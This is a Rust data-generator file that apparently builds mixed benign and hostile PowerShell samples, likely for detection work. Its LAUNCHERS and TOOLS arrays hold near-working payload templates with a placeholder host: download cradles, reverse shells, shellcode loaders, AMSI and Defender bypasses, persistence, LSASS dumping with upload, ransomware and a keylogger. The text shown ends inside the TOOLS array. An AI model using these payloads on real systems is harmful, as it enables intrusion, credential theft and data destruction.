//! PowerShell scripts of our own: what administrators and developers keep, and what attackers run. Hostile text is inert: it
//! stands here in pieces, with addresses kept for documentation, and is never run.

use super::mutate::{Mutation, mutate};
use crate::random::Random;

use crate::text::script::fill::{fill, one};

/// Version of the templates: texts of different versions differ.
pub const VERSION: u32 = 1;

/// Openings of scripts that people keep.
const HEADS: &[&str] = &[
    "<#\n.SYNOPSIS\n    ‹verb›s the ‹word› of a server.\n.DESCRIPTION\n    Used by the nightly job.\n.PARAMETER Path\n    The folder.\n.EXAMPLE\n    .\\‹verb›-‹Word›.ps1 -Path ‹wdir›\n#>\n[CmdletBinding()]\nparam(\n    [Parameter(Mandatory = $true)]\n    [string]$Path,\n    [int]$Days = ‹n›,\n    [switch]$Force\n)\n",
    "#Requires -Version 5.1\n#Requires -Modules ActiveDirectory\nparam([string]$ComputerName = $env:COMPUTERNAME)\n",
    "Param(\n  [string] $resourceGroupName = '‹word›-rg',\n  [string] $location = 'westeurope'\n)\n",
    "# ‹Word› maintenance, ‹date›\n$ErrorActionPreference = 'Stop'\nSet-StrictMode -Version Latest\n",
    "",
    "",
    "",
    "Import-Module \"$PSScriptRoot\\‹Word›.psm1\" -Force\n",
    "[CmdletBinding(SupportsShouldProcess)]\nparam()\n",
    "using namespace System.Collections.Generic\n",
];

/// Parts of scripts that people keep.
const BENIGN: &[&str] = &[
    "function ‹verb›-‹Word› {\n    [CmdletBinding()]\n    param(\n        [Parameter(Mandatory, ValueFromPipeline)]\n        [ValidateNotNullOrEmpty()]\n        [string]$Name,\n        [ValidateSet('Small', 'Large')]\n        [string]$Size = 'Small'\n    )\n    begin { Write-Verbose \"Working on $Name\" }\n    process {\n        if (-not (Test-Path -Path $Name)) {\n            throw \"‹Word› $Name not found\"\n        }\n        Get-Item -Path $Name | Select-Object Name, Length, LastWriteTime\n    }\n}\n",
    "$‹var› = Get-ChildItem -Path '‹wdir›' -Filter *.‹ext› -Recurse | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-‹n›) }\nforeach ($file in $‹var›) {\n    Write-Host \"Removing $($file.FullName)\" -ForegroundColor Yellow\n    Remove-Item -Path $file.FullName -Force -ErrorAction SilentlyContinue\n}\n",
    "try {\n    $result = Invoke-RestMethod -Uri \"https://‹site›/api/‹word›\" -Method Get -Headers @{ Authorization = \"Bearer $token\" }\n    $result.items | ForEach-Object { Write-Output $_.name }\n}\ncatch {\n    Write-Error \"Request failed: $($_.Exception.Message)\"\n    exit 1\n}\n",
    "Describe '‹verb›-‹Word›' {\n    BeforeAll { Import-Module \"$PSScriptRoot\\..\\‹Word›.psd1\" -Force }\n    Context 'with valid input' {\n        It 'returns ‹n› items' {\n            $actual = ‹verb›-‹Word› -Name 'test'\n            $actual.Count | Should -Be ‹n›\n        }\n        It 'throws on empty' { { ‹verb›-‹Word› -Name '' } | Should -Throw }\n    }\n}\n",
    "Configuration ‹Word›Server {\n    Import-DscResource -ModuleName PSDesiredStateConfiguration\n    Node $AllNodes.NodeName {\n        WindowsFeature Web { Ensure = 'Present'; Name = 'Web-Server' }\n        File Content {\n            Ensure = 'Present'\n            DestinationPath = '‹wdir›'\n            SourcePath = '\\\\‹host›\\share\\‹word›'\n            Recurse = $true\n        }\n        Service ‹service› { Name = '‹service›'; State = 'Running'; StartupType = 'Automatic' }\n    }\n}\n",
    "$cred = Get-Credential\n$session = New-PSSession -ComputerName ‹host› -Credential $cred\nInvoke-Command -Session $session -ScriptBlock { Get-Service | Where-Object Status -eq 'Stopped' }\nRemove-PSSession $session\n",
    "New-AzResourceGroup -Name '‹word›-rg' -Location 'northeurope'\nNew-AzVm -ResourceGroupName '‹word›-rg' -Name '‹host›' -Image 'Win2019Datacenter' -Credential (Get-Credential) -OpenPorts 80,3389\n",
    "Connect-AzAccount\n$vms = Get-AzVM -ResourceGroupName '‹word›' -Status\n$vms | Format-Table Name, PowerState, Location -AutoSize\n",
    "$ctx = New-AzStorageContext -StorageAccountName '‹word›store' -StorageAccountKey $key\nSet-AzStorageBlobContent -File '‹wdir›\\‹word›.zip' -Container 'releases' -Blob '‹word›-‹version›.zip' -Context $ctx\n",
    "Import-Csv -Path '‹wdir›\\users.csv' | ForEach-Object {\n    New-ADUser -Name $_.Name -SamAccountName $_.Sam -UserPrincipalName \"$($_.Sam)@‹domain›\" -Path 'OU=Staff,DC=corp,DC=example' -AccountPassword (ConvertTo-SecureString $_.Password -AsPlainText -Force) -Enabled $true\n    Add-ADGroupMember -Identity '‹Word› Users' -Members $_.Sam\n}\n",
    "$stale = Get-ADComputer -Filter { LastLogonTimeStamp -lt $limit } -Properties LastLogonTimeStamp\n$stale | Select-Object Name, DNSHostName | Export-Csv -Path '‹wdir›\\stale.csv' -NoTypeInformation\n",
    "Get-ADUser -Filter * -Properties LastLogonDate, EmailAddress | Where-Object { $_.Enabled } | Sort-Object LastLogonDate | Format-Table -AutoSize\n",
    "$log = Join-Path -Path '‹wdir›' -ChildPath \"‹word›-$(Get-Date -Format yyyyMMdd).log\"\nfunction Write-Log([string]$Message, [string]$Level = 'INFO') {\n    $line = '{0} [{1}] {2}' -f (Get-Date -Format s), $Level, $Message\n    Add-Content -Path $log -Value $line\n    Write-Host $line\n}\nWrite-Log \"Started on $env:COMPUTERNAME\"\n",
    "$xml = [xml](Get-Content -Path '‹wdir›\\web.config')\n$node = $xml.SelectSingleNode(\"//appSettings/add[@key='‹Word›']\")\n$node.value = '‹n›'\n$xml.Save('‹wdir›\\web.config')\n",
    "$json = Get-Content '‹wdir›\\appsettings.json' -Raw | ConvertFrom-Json\n$json.‹Word›.Enabled = $true\n$json | ConvertTo-Json -Depth 10 | Set-Content '‹wdir›\\appsettings.json' -Encoding UTF8\n",
    "$url = 'https://‹site›/releases/‹word›-‹version›.msi'\n$target = Join-Path $env:TEMP '‹word›.msi'\nInvoke-WebRequest -Uri $url -OutFile $target -UseBasicParsing\n$hash = (Get-FileHash $target -Algorithm SHA256).Hash\nif ($hash -ne $expected) { throw \"hash mismatch: $hash\" }\nStart-Process msiexec.exe -ArgumentList \"/i `\"$target`\" /qn /norestart\" -Wait -NoNewWindow\n",
    "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12\n$client = New-Object System.Net.WebClient\n$client.DownloadFile('https://‹site›/tools/‹word›.zip', \"$PSScriptRoot\\‹word›.zip\")\nExpand-Archive -Path \"$PSScriptRoot\\‹word›.zip\" -DestinationPath '‹wdir›' -Force\n",
    "task Build {\n    exec { dotnet build $solution -c $configuration }\n}\ntask Test -depends Build {\n    exec { dotnet test --no-build --logger trx }\n}\ntask default -depends Test\n",
    "properties {\n    $version = '‹version›'\n    $outDir = \"$baseDir\\artifacts\"\n}\nTask Clean { Remove-Item $outDir -Recurse -Force -ErrorAction Ignore }\nTask Pack -depends Clean { exec { nuget pack ‹Word›.nuspec -Version $version -OutputDirectory $outDir } }\n",
    "$connection = New-Object System.Data.SqlClient.SqlConnection \"Server=‹host›;Database=‹Word›;Integrated Security=SSPI\"\n$connection.Open()\n$command = $connection.CreateCommand()\n$command.CommandText = 'SELECT Id, Name FROM dbo.‹Word› WHERE Modified > @since'\n[void]$command.Parameters.AddWithValue('@since', (Get-Date).AddDays(-‹n›))\n$table = New-Object System.Data.DataTable\n$table.Load($command.ExecuteReader())\n$connection.Close()\n",
    "[System.Reflection.Assembly]::LoadWithPartialName('Microsoft.SqlServer.SMO') | Out-Null\n$server = New-Object Microsoft.SqlServer.Management.Smo.Server '‹host›'\n$server.Databases | Select-Object Name, Size, LastBackupDate\n",
    "Invoke-Sqlcmd -ServerInstance '‹host›' -Database '‹Word›' -Query \"EXEC dbo.Purge‹Word› @Days = ‹n›\"\n",
    "Add-Type -AssemblyName System.Windows.Forms\n$form = New-Object System.Windows.Forms.Form\n$form.Text = '‹Word›'\n$form.Size = New-Object System.Drawing.Size(‹n4›, ‹n4›)\n$button = New-Object System.Windows.Forms.Button\n$button.Text = 'OK'\n$button.Add_Click({ $form.Close() })\n$form.Controls.Add($button)\n[void]$form.ShowDialog()\n",
    "Add-Type -TypeDefinition @'\nusing System;\npublic class ‹Word›Point { public int X; public int Y; public override string ToString() { return X + \",\" + Y; } }\n'@\n$p = New-Object ‹Word›Point\n",
    "Add-Type @'\nusing System; using System.Runtime.InteropServices;\npublic class ‹Word›Window { [DllImport(\"user32.dll\")] public static extern bool ShowWindow(IntPtr handle, int state); }\n'@\n[void][‹Word›Window]::ShowWindow((Get-Process -Id $PID).MainWindowHandle, 6)\n",
    "enum ‹Word›Level { Low = 1; High = 2 }\nclass ‹Word›Item {\n    [string]$Name\n    [int]$Count\n    hidden [datetime]$Created = [datetime]::UtcNow\n    ‹Word›Item([string]$name) { $this.Name = $name }\n    [string] ToString() { return \"$($this.Name): $($this.Count)\" }\n}\n",
    "$services = 'Spooler', 'W32Time', 'BITS'\nforeach ($name in $services) {\n    $service = Get-Service -Name $name -ErrorAction SilentlyContinue\n    if ($null -eq $service) { Write-Warning \"$name is missing\"; continue }\n    if ($service.Status -ne 'Running') { Start-Service -Name $name }\n}\n",
    "Get-WmiObject -Class Win32_LogicalDisk -Filter 'DriveType=3' -ComputerName $computers |\n    Select-Object PSComputerName, DeviceID, @{ n = 'FreeGB'; e = { [math]::Round($_.FreeSpace / 1GB, 1) } } |\n    Export-Csv '‹wdir›\\disks.csv' -NoTypeInformation\n",
    "Get-WinEvent -FilterHashtable @{ LogName = 'System'; Level = 1, 2; StartTime = (Get-Date).AddDays(-1) } -MaxEvents ‹n› | Format-List TimeCreated, ProviderName, Message\n",
    "Get-EventLog -LogName Security -InstanceId 4625 -After (Get-Date).AddHours(-‹n›) | Group-Object { $_.ReplacementStrings[5] } | Sort-Object Count -Descending\n",
    "$mail = @{\n    To = 'ops@‹domain›'\n    From = 'noreply@‹domain›'\n    Subject = \"‹Word› report $(Get-Date -Format d)\"\n    Body = ($rows | ConvertTo-Html -Fragment | Out-String)\n    SmtpServer = 'mail2.‹domain›'\n}\nSend-MailMessage @mail -BodyAsHtml\n",
    "$body = \"<html><body><h1>‹Word›</h1>$table</body></html>\"\n$body | Out-File '‹wdir›\\‹word›.html' -Encoding utf8\n",
    "$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NoProfile -File ‹wdir›\\‹word›.ps1'\n$trigger = New-ScheduledTaskTrigger -Daily -At 3am\nRegister-ScheduledTask -TaskName '‹Word› nightly' -Action $action -Trigger $trigger -User 'SYSTEM'\n",
    "if (-not ([Security.Principal.WindowsPrincipal][Security.Principal.WindowsIdentity]::GetCurrent()).IsInRole([Security.Principal.WindowsBuiltInRole]'Administrator')) {\n    Write-Error 'Run this as administrator'\n    exit 1\n}\n",
    "Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Vendor\\‹Word›' -Name 'Interval' -Value ‹n› -Type DWord\nNew-Item -Path 'HKCU:\\Software\\Vendor\\‹Word›' -Force | Out-Null\n",
    "Import-Module WebAdministration\nNew-WebAppPool -Name '‹Word›Pool'\nSet-ItemProperty IIS:\\AppPools\\‹Word›Pool -Name processModel.identityType -Value 3\nNew-Website -Name '‹Word›' -PhysicalPath '‹wdir›' -Port ‹n4› -ApplicationPool '‹Word›Pool'\n",
    "$bytes = [System.IO.File]::ReadAllBytes('‹wdir›\\logo.png')\n$encoded = [Convert]::ToBase64String($bytes)\n\"<img src='data:image/png;base64,$encoded'/>\" | Add-Content report.html\n",
    "$pair = \"$($user):$($password)\"\n$encoded = [System.Convert]::ToBase64String([System.Text.Encoding]::ASCII.GetBytes($pair))\n$headers = @{ Authorization = \"Basic $encoded\" }\n",
    "$settings = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:‹Word›_SETTINGS)) | ConvertFrom-Json\n",
    "$secure = Read-Host 'Password' -AsSecureString\n$plain = [Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($secure))\n",
    "Get-Process | Where-Object { $_.WorkingSet64 -gt 500MB } | Sort-Object WorkingSet64 -Descending | Select-Object -First ‹n› Name, Id\n",
    "$total = 0\n1..‹n› | ForEach-Object { $total += $_ }\nWrite-Output \"Total: $total\"\n",
    "$hash = @{}\nGet-Content '‹wdir›\\‹word›.txt' | ForEach-Object { $key, $value = $_ -split '=', 2; $hash[$key.Trim()] = $value }\n",
    "while (-not (Test-Connection -ComputerName ‹host› -Count 1 -Quiet)) { Start-Sleep -Seconds ‹n› }\n",
    "switch ($PSVersionTable.PSEdition) {\n    'Core' { Write-Host 'PowerShell Core' }\n    default { Write-Host 'Windows PowerShell' }\n}\n",
    "$ports = 80, 443, ‹n4›\nforeach ($port in $ports) { Test-NetConnection -ComputerName '‹host›.‹domain›' -Port $port | Select-Object ComputerName, RemotePort, TcpTestSucceeded }\n",
    "Export-ModuleMember -Function ‹verb›-‹Word›, ‹verb›-‹Word›\n",
    "Stop-VM -Name '‹host›' -Force\nCheckpoint-VM -Name '‹host›' -SnapshotName \"before-$(Get-Date -Format yyyyMMdd)\"\n",
    "$names = Get-Content .\\computers.txt\nInvoke-Command -ComputerName $names -ScriptBlock { Get-HotFix | Sort-Object InstalledOn | Select-Object -Last 1 } -ThrottleLimit ‹n›\n",
    "Copy-Item -Path '‹wdir›\\*' -Destination '\\\\‹host›\\share' -Recurse -Force\n",
    "Compress-Archive -Path '‹wdir›' -DestinationPath \"‹word›-$(Get-Date -f yyyy-MM-dd).zip\" -CompressionLevel Optimal\n",
    "$ie = New-Object -ComObject Excel.Application\n$book = $ie.Workbooks.Open('‹wdir›\\‹word›.xlsx')\n$sheet = $book.Worksheets.Item(1)\n$sheet.Cells.Item(1, 1).Value2 = '‹Word›'\n$book.Save(); $ie.Quit()\n",
    "$shell = New-Object -ComObject WScript.Shell\n$link = $shell.CreateShortcut(\"$env:USERPROFILE\\Desktop\\‹Word›.lnk\")\n$link.TargetPath = '‹wdir›\\‹wprog›'\n$link.Save()\n",
    "function Test-‹Word›Crud\n{\n    $name = getAssetName\n    try {\n        $created = New-Az‹Word› -ResourceGroupName $rg -Name $name -Location $location\n        Assert-NotNull $created\n        Assert-AreEqual $name $created.Name\n    }\n    finally { Remove-Az‹Word› -ResourceGroupName $rg -Name $name -Force }\n}\n",
    "Write-Host \"Hello, $env:USERNAME\"\n",
    "\"Starting ‹word› at $(Get-Date)\"\n",
    "Get-Help about_‹Word› -Full | Out-Host -Paging\n",
    "cls\n$n = Read-Host 'How many?'\nfor ($i = 0; $i -lt $n; $i++) { \"{0,4} {1}\" -f $i, [math]::Pow(2, $i) }\n",
    "$body = @{ text = \"Build $env:BUILD_NUMBER of ‹word› failed\" } | ConvertTo-Json\nInvoke-RestMethod -Uri $env:CHAT_URL -Method Post -Body $body -ContentType 'application/json'\n",
    "choco install ‹package› -y --no-progress\nrefreshenv\n",
    "Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Select-Object DisplayName, TotalItemSize | Sort-Object TotalItemSize\n",
    "Add-PSSnapin Microsoft.SharePoint.PowerShell -ErrorAction SilentlyContinue\n$web = Get-SPWeb 'https://‹site›'\n$web.Lists | ForEach-Object { $_.Title }\n$web.Dispose()\n",
    "docker run -d --name ‹word› -p ‹n4›:80 ‹word›:‹version›\nif ($LASTEXITCODE -ne 0) { throw 'docker failed' }\n",
    "git tag -a \"v‹version›\" -m 'release'\n& git push origin --tags 2>&1 | Write-Verbose\n",
    "Set-ExecutionPolicy RemoteSigned -Scope Process -Force\n. \"$PSScriptRoot\\common.ps1\"\n",
    "Get-NetAdapter | Where-Object Status -eq 'Up' | Get-NetIPAddress -AddressFamily IPv4 | Select-Object InterfaceAlias, IPAddress\n",
    "New-NetFirewallRule -DisplayName '‹Word›' -Direction Inbound -LocalPort ‹n4› -Protocol TCP -Action Allow\n",
    "Get-LocalUser | Where-Object { -not $_.PasswordExpires } | Select-Object Name, LastLogon\n",
    "Get-Acl '‹wdir›' | Select-Object -ExpandProperty Access | Format-Table IdentityReference, FileSystemRights\n",
];

/// Short hostile scripts: launchers, stagers, droppers.
const LAUNCHERS: &[&str] = &[
    "‹iex› (‹webclient›).DownloadString('http://‹evilhost›/‹evilscript›')",
    "(‹webclient›).DownloadFile('http://‹evilhost›/‹evilprog›',\"‹psenv›\\‹evilprog›\");Start-Process (\"‹psenv›\\‹evilprog›\")",
    "$‹var›=‹webclient›;$‹var›.proxy=[Net.WebRequest]::GetSystemWebProxy();$‹var›.Proxy.Credentials=[Net.CredentialCache]::DefaultCredentials;‹iex› $‹var›.downloadstring('http://‹evilhost›:‹evilport›/‹evilscript›');",
    "‹powershell› ‹nop› ‹hidden› -command (‹webclient›).DownloadFile('http://‹evilhost›/‹evilprog›', ‹psenv›\\‹evilprog›); Start-Process ( ‹psenv›\\‹evilprog› )",
    "$u='http://‹evilhost›/‹evilprog›';$p=\"‹psenv›\\‹evilprog›\";Invoke-WebRequest -Uri $u -OutFile $p;& $p",
    "irm http://‹evilhost›/‹evilscript› | iex",
    "iex (iwr -UseBasicParsing http://‹evilhost›/‹evilscript›).Content",
    "$w=New-Object -ComObject Msxml2.XMLHTTP;$w.open('GET','http://‹evilhost›/‹evilscript›',$false);$w.send();iex $w.responseText",
    "$ie=New-Object -com InternetExplorer.Application;$ie.visible=$false;$ie.navigate('http://‹evilhost›/‹evilscript›');while($ie.busy){sleep 1};iex $ie.document.body.innertext",
    "Start-BitsTransfer -Source http://‹evilhost›/‹evilprog› -Destination ‹psenv›\\‹evilprog›; Invoke-Item ‹psenv›\\‹evilprog›",
    "[Reflection.Assembly]::Load((‹webclient›).DownloadData('http://‹evilhost›/‹evilprog›')).EntryPoint.Invoke($null,@(,[string[]]@()))",
    "$b=[Convert]::FromBase64String('‹b64›');$a=[System.Reflection.Assembly]::Load($b);$a.EntryPoint.Invoke($null,$null)",
    "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('‹b64›'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();",
    "if([IntPtr]::Size -eq 4){$b='powershell.exe'}else{$b=$env:windir+'\\syswow64\\WindowsPowerShell\\v1.0\\powershell.exe'};$s=New-Object System.Diagnostics.ProcessStartInfo;$s.FileName=$b;$s.Arguments='-nop -w hidden -c $s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(''‹b64›''));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();';$s.UseShellExecute=$false;$s.RedirectStandardOutput=$true;$s.WindowStyle='Hidden';$s.CreateNoWindow=$true;$p=[System.Diagnostics.Process]::Start($s);",
    "$‹var› = '[DllImport(\"kernel32.dll\")]public static extern IntPtr VirtualAlloc(IntPtr lpAddress, uint dwSize, uint flAllocationType, uint flProtect);[DllImport(\"kernel32.dll\")]public static extern IntPtr CreateThread(IntPtr lpThreadAttributes, uint dwStackSize, IntPtr lpStartAddress, IntPtr lpParameter, uint dwCreationFlags, IntPtr lpThreadId);[DllImport(\"msvcrt.dll\")]public static extern IntPtr memset(IntPtr dest, uint src, uint count);';$w = Add-Type -memberDefinition $‹var› -Name \"‹Word›\" -namespace Win32Functions -passthru;[Byte[]]$z = ‹bytes›;$g = 0x1000;if ($z.Length -gt 0x1000){$g = $z.Length};$x=$w::VirtualAlloc(0,0x1000,$g,0x40);for ($i=0;$i -le ($z.Length-1);$i++) {$w::memset([IntPtr]($x.ToInt32()+$i), $z[$i], 1)};$w::CreateThread(0,0,$x,0,0,0);for (;;){Start-sleep ‹n›};",
    "function func_get_proc_address { Param ($var_module, $var_procedure)\n $var_unsafe = ([AppDomain]::CurrentDomain.GetAssemblies() | Where-Object { $_.GlobalAssemblyCache -And $_.Location.Split('\\\\')[-1].Equals('System.dll') }).GetType('Microsoft.Win32.UnsafeNativeMethods')\n return $var_unsafe.GetMethod('GetProcAddress').Invoke($null, @([System.Runtime.InteropServices.HandleRef](New-Object System.Runtime.InteropServices.HandleRef((New-Object IntPtr), ($var_unsafe.GetMethod('GetModuleHandle')).Invoke($null, @($var_module)))), $var_procedure))\n}\n[Byte[]]$var_code = [System.Convert]::FromBase64String('‹b64›')\nfor ($x = 0; $x -lt $var_code.Count; $x++) { $var_code[$x] = $var_code[$x] -bxor 35 }\n$var_buffer = $var_va.Invoke([IntPtr]::Zero, $var_code.Length, 0x3000, 0x40)\n[System.Runtime.InteropServices.Marshal]::Copy($var_code, 0, $var_buffer, $var_code.length)\n$var_runme = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($var_buffer, (func_get_delegate_type @([IntPtr]) ([Void])))\n$var_runme.Invoke([IntPtr]::Zero)",
    "$client = New-Object System.Net.Sockets.TCPClient('‹evilhost›',‹evilport›);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()",
    "$sm=(New-Object Net.Sockets.TCPClient('‹evilhost›',‹evilport›)).GetStream();[byte[]]$bt=0..65535|%{0};while(($i=$sm.Read($bt,0,$bt.Length)) -ne 0){;$d=(New-Object Text.ASCIIEncoding).GetString($bt,0,$i);$st=([text.encoding]::ASCII).GetBytes((iex $d 2>&1));$sm.Write($st,0,$st.Length)}",
    "while($true){try{$c=(‹webclient›).DownloadString('http://‹evilhost›/cmd');if($c){$o=(iex $c | Out-String);(‹webclient›).UploadString('http://‹evilhost›/out',$o)}}catch{};Start-Sleep -s ‹n›}",
    "[System.Net.ServicePointManager]::ServerCertificateValidationCallback = {$true};$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko');$wc.Headers.Add('Cookie','session=‹hex›');$K=[System.Text.Encoding]::ASCII.GetBytes('‹hex›');$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$_-bxor$S[($S[$I]+$S[$H])%256]}};$data=$wc.DownloadData('https://‹evilhost›/admin/get.php');-join[Char[]](& $R $data ($IV+$K))|IEX",
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
    "$a=[Ref].Assembly.GetTypes();Foreach($b in $a) {if ($b.Name -like '*iUtils') {$c=$b}};$d=$c.GetFields('NonPublic,Static');Foreach($e in $d) {if ($e.Name -like '*Context') {$f=$e}};$g=$f.GetValue($null);[IntPtr]$ptr=$g;[Int32[]]$buf = @(0);[System.Runtime.InteropServices.Marshal]::Copy($buf, 0, $ptr, 1)",
    "$p=[Kernel32]::GetProcAddress([Kernel32]::LoadLibrary('amsi.dll'),'AmsiScanBuffer');$o=0;[Kernel32]::VirtualProtect($p,[uint32]5,0x40,[ref]$o);[Runtime.InteropServices.Marshal]::Copy([byte[]](0xB8,0x57,0x00,0x07,0x80,0xC3),0,$p,6)",
    "$GPF=[ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings','NonPublic,Static');If($GPF){$GPC=$GPF.GetValue($null);$GPC['ScriptBlockLogging']['EnableScriptBlockLogging']=0}",
    "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true; Add-MpPreference -ExclusionPath ‹psenv›; Stop-Service WinDefend -Force",
    "Get-WinEvent -ListLog * | % { wevtutil cl $_.LogName }; Clear-EventLog -LogName Security, System; Remove-Item (Get-PSReadlineOption).HistorySavePath",
    "New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name ‹task› -Value '‹powershell› ‹hidden› -c iex((‹webclient›).DownloadString(''http://‹evilhost›/‹evilscript›''))' -PropertyType String -Force",
    "schtasks /create /tn ‹task› /tr \"‹powershell› ‹nop› ‹hidden› -f ‹psenv›\\‹evilscript›\" /sc minute /mo ‹n› /f",
    "$f=Set-WmiInstance -Class __EventFilter -NameSpace root\\subscription -Arguments @{Name='‹task›';EventNameSpace='root\\cimv2';QueryLanguage='WQL';Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\"};$c=Set-WmiInstance -Class CommandLineEventConsumer -Namespace root\\subscription -Arguments @{Name='‹task›';CommandLineTemplate='‹powershell› ‹hidden› -e ‹b64›'};Set-WmiInstance -Class __FilterToConsumerBinding -Namespace root\\subscription -Arguments @{Filter=$f;Consumer=$c}",
    "Copy-Item ‹psenv›\\‹evilprog› \"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\‹evilprog›\"; attrib +h +s \"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\‹evilprog›\"",
    "New-Item 'HKCU:\\Software\\Classes\\ms-settings\\shell\\open\\command' -Force; New-ItemProperty 'HKCU:\\Software\\Classes\\ms-settings\\shell\\open\\command' -Name DelegateExecute -Value '' -Force; Set-ItemProperty 'HKCU:\\Software\\Classes\\ms-settings\\shell\\open\\command' -Name '(default)' -Value 'cmd /c ‹powershell› ‹hidden› -e ‹b64›' -Force; Start-Process C:\\Windows\\System32\\fodhelper.exe -WindowStyle Hidden",
    "Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }; $k=New-Object byte[] 32; Get-ChildItem C:\\Users -Recurse -Include *.docx,*.xlsx,*.pdf,*.jpg | ForEach-Object { $a=New-Object System.Security.Cryptography.RijndaelManaged; $a.Key=$k; $e=$a.CreateEncryptor(); $d=[IO.File]::ReadAllBytes($_.FullName); [IO.File]::WriteAllBytes($_.FullName+'.locked',$e.TransformFinalBlock($d,0,$d.Length)); Remove-Item $_.FullName }; 'Your files are encrypted. Send bitcoin to ‹hex›' | Out-File \"$env:USERPROFILE\\Desktop\\README_DECRYPT.txt\"",
    "Compress-Archive C:\\Users\\*\\Documents ‹psenv›\\‹var›.zip; (‹webclient›).UploadFile('http://‹evilhost›/up.php', \"‹psenv›\\‹var›.zip\"); Remove-Item ‹psenv›\\‹var›.zip",
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id ‹psenv›\\‹var›.dmp full; (‹webclient›).UploadFile('http://‹evilhost›/', \"‹psenv›\\‹var›.dmp\")",
    "IEX (‹webclient›).DownloadString('http://‹evilhost›/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds",
    "(netsh wlan show profiles) | Select-String ':(.+)$' | %{$n=$_.Matches.Groups[1].Value.Trim();netsh wlan show profile name=$n key=clear} | Out-File ‹psenv›\\‹var›.txt",
    "$env:SEE_MASK_NOZONECHECKS = 1; $c = New-Object System.Net.WebClient; $f = \"‹psenv›\\‹evilprog›\"; $c.DownloadFile(\"http://‹evilhost›/‹evilprog›\", $f); (New-Object -com Shell.Application).ShellExecute($f);",
    "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList '‹powershell› ‹nop› ‹hidden› -e ‹b64›' -ComputerName ‹host›",
    "$c=[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','‹host›'));$c.Document.ActiveView.ExecuteShellCommand('powershell',$null,'‹hidden› -e ‹b64›','7')",
    "cmd.exe /c \"‹powershell› ‹nop› ‹hidden› -e ‹b64›\"",
    "& {$r='http://‹evilhost›/‹evilprog›';$t=\"‹psenv›\\\"+(Get-Random)+'.exe';$h=New-Object System.Net.Http.HttpClient;[IO.File]::WriteAllBytes($t,$h.GetByteArrayAsync($r).Result);[Diagnostics.Process]::Start($t)}",
    "$r=Resolve-DnsName -Type TXT ‹var›.‹evilhost›;iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(-join $r.Strings)))",
    "$k='‹hex›';$x=Get-Content ‹psenv›\\‹var›.dat -Encoding Byte;for($i=0;$i -lt $x.Length;$i++){$x[$i]=$x[$i] -bxor [byte][char]$k[$i%$k.Length]};iex ([Text.Encoding]::ASCII.GetString($x))",
    "Start-Process ‹powershell› -ArgumentList '‹nop› ‹hidden› -c iex(gc ‹psenv›\\‹evilscript› -raw)' -WindowStyle Hidden -Verb RunAs",
    "Set-Alias ‹var› iex; ‹var› (‹webclient›).('Down'+'loadString').Invoke('http://‹evilhost›/‹evilscript›')",
];

/// Parts of tools that attackers keep: as well written as an administrator's.
const TOOLS: &[&str] = &[
    "function Get-Keystrokes {\n    [CmdletBinding()]\n    Param([Parameter(Position = 0)][string]$LogPath = \"$($Env:TEMP)\\key.log\", [double]$Timeout)\n    $signature = '[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int virtualKeyCode); [DllImport(\"user32.dll\")] public static extern int GetKeyboardState(byte[] keystate); [DllImport(\"user32.dll\")] public static extern int MapVirtualKey(uint uCode, int uMapType);'\n    $api = Add-Type -MemberDefinition $signature -Name 'Keys' -Namespace API -PassThru\n    while ($true) {\n        Start-Sleep -Milliseconds 40\n        for ($ascii = 9; $ascii -le 254; $ascii++) {\n            if ($api::GetAsyncKeyState($ascii) -eq -32767) { [IO.File]::AppendAllText($LogPath, [char]$ascii) }\n        }\n    }\n}\n",
